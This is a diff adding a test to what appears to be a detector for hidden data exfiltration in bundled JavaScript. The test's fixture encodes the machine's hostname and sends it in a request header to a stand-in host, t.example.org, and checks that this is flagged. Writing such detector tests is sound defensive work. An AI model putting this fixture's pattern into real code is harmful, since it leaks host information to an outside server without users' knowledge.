@@ -96,6 +96,23 @@ test('inside one bundled module the mechanism is still found', () => {
   assert.equal(f[0]?.severity, 'high');
 });
 
+test('a module nested in another keeps its own property names: after it, the outer module reads its own again', () => {
+  // The outer module reads `.tag` before and after a webpack-style module map whose first module writes an encoded host name to `.tag`.
+  const inner = `[function (e, t, n) { var k = {}; k.tag = Buffer.from(require("os").hostname()).toString("base64"); }, function (e, t, n) { t.other = 1; }]`;
+  const outer = (innerTag: string) =>
+    esbuild([
+      [
+        'src/outer.js',
+        `var s = { tag: "fixed" }; var before = s.tag; var chunk = ${inner};
+    ${innerTag}
+    module.exports = function send() { return fetch("https://t.example.org/p", { headers: { "x-tag": s.tag, "x-b": before } }); };`,
+      ],
+    ]);
+  assert.deepEqual(significant(outer('')).map((f) => f.ruleId), []);
+  // The twin: the outer module itself writes the encoded host name to `.tag`, and it is found.
+  assert.equal(significant(outer('s.tag = Buffer.from(require("os").hostname()).toString("base64");'))[0]?.ruleId, 'hidden-exfiltration');
+});
+
 test('across bundled modules, a value passed through exports is still followed', () => {
   const code =
     esbuild([
